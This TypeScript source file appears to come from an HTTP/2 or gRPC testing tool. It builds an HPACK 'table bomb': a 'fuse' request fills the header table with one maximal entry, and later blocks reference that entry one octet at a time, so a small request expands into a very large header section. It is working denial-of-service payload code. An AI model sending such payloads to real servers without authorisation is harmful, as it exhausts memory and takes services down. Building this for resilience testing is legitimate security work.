import type { CallRequest } from '../grpc/call-request';
import type { TargetFacts } from '../facts/target-facts';
import { encodeIndexed, encodeLiteral, encodeSizeUpdate } from '../wire/hpack/encoder';
import { staticTable } from '../wire/hpack/static-table';
import { joinOctets } from '../wire/join-octets';
import { literalRequest } from './literal-request';
import { tableLimit } from './table-of-requests';

/** Octets that an entry of a table counts beside its name and value (RFC 7541 §4.1). */
const entryOverhead = 32;

/** Octets of the largest table that a client may count on, whatever the target announces. */
const usualTable = 4096;

/** A field block that is small and stands for much. */
export interface TableBomb {
  /** Field block of the request that fills the table, which must come first on its connection. */
  readonly fuse: Uint8Array;
  /** Field block of a request that refers to that entry, an octet each time. */
  readonly block: (references: number) => Uint8Array;
  /** The same by itself: it makes the table empty by a size update, as large as before by another, and fills it. */
  readonly renewed: (references: number) => Uint8Array;
  /** Octets for which each reference counts in a field section (RFC 9113 §6.5.2). */
  readonly entry: number;
}

/**
 * One entry as large as the table of requests may be, and blocks of references to it; all else is in literals, so that the entry stays where it is.
 * @param name of the field
 */
export function tableBomb(facts: TargetFacts, request: Pick<CallRequest, 'path'>, name: string): TableBomb {
  const size = Math.min(tableLimit(facts), usualTable);
  const room = size - entryOverhead - name.length;
  const value = 'b'.repeat(Math.max(1, room));
  const ordinary = literalRequest(facts, request);
  const fuse = joinOctets([ordinary, encodeLiteral({ name, value, representation: 'incremental', huffman: false })]);
  const repeated = (references: number): Uint8Array =>
    repeatedOctets(encodeIndexed(staticTable.length + 1), references);
  return {
    fuse,
    block: (references) => joinOctets([ordinary, repeated(references)]),
    renewed: (references) => joinOctets([encodeSizeUpdate(0), encodeSizeUpdate(size), fuse, repeated(references)]),
    entry: name.length + value.length + entryOverhead,
  };
}

/** The same octets over and over. */
export const repeatedOctets = (octets: Uint8Array, times: number): Uint8Array =>
  joinOctets(Array.from({ length: times }, () => octets));
